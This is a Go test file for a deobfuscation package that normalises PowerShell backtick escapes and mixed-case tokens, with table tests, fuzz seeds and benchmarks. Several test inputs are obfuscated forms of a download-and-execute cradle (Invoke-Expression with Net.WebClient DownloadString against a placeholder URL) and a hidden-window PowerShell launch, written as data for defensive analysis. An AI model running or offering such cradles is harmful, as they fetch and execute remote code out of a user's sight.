package deobfuscate

import "testing"

func TestPSBacktick(t *testing.T) {
	runTransformTable(t, PSBacktick, []transformCase{
		{"inside words", "I`nv`oke-Ex`pression (Ne`w-Obj`ect Net.WebClient)", "Invoke-Expression (New-Object Net.WebClient)", true},
		{"double-quoted keeps escapes", "\"D`own`load`n`t\"", "\"Download`n`t\"", true},
		{"single-quoted untouched", "'a`bc'", "'a`bc'", false},
		{"sh command substitution", "echo `id`", "echo `id`", false},
		{"line continuation", "Get-Item `\n -Path x", "Get-Item `\n -Path x", false},
	})
}

func TestPSCase(t *testing.T) {
	runTransformTable(t, PSCase, []transformCase{
		{"cmdlets and members", `NeW-ObJeCt NeT.wEbClIeNt).dOwNLoaDsTrInG('http://X')`, `New-Object NeT.WebClient).DownloadString('http://X')`, true},
		{"operators lower case", `('a','b') -JoIn ''`, `('a','b') -join ''`, true},
		{"parameters", `powershell -NoPrOfIlE -wInDoWsTyLe hIdDeN`, `powershell -NoProfile -WindowStyle Hidden`, true},
		{"single-case tokens stay", `new-object IEX`, `new-object IEX`, false},
		{"variables stay", `$NeW = 1`, `$NeW = 1`, false},
		{"unknown words stay", `GeT-FoO`, `GeT-FoO`, false},
	})
}

func FuzzPSBacktick(f *testing.F) { fuzzTransform(f, PSBacktick, "I`EX \"`a`b\"", "`") }
func FuzzPSCase(f *testing.F)     { fuzzTransform(f, PSCase, "NeW-ObJeCt -JoIn", "-") }

func BenchmarkPSBacktick(b *testing.B) {
	benchTransform(b, PSBacktick, "I`nv`oke-Ex`pression (Ne`w-Obj`ect Net.WebClient).\"Down`load`String\"('http://x/a')")
}
func BenchmarkPSCase(b *testing.B) {
	benchTransform(b, PSCase, `iNVoKe-eXpReSsIoN (NeW-ObJeCt NeT.wEbClIeNt).dOwNLoaDsTrInG('http://x/a')`)
}
func BenchmarkPSCaseBenign(b *testing.B) {
	benchTransform(b, PSCase, `Get-ChildItem -Path C:\Users -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object -First 10`)
}
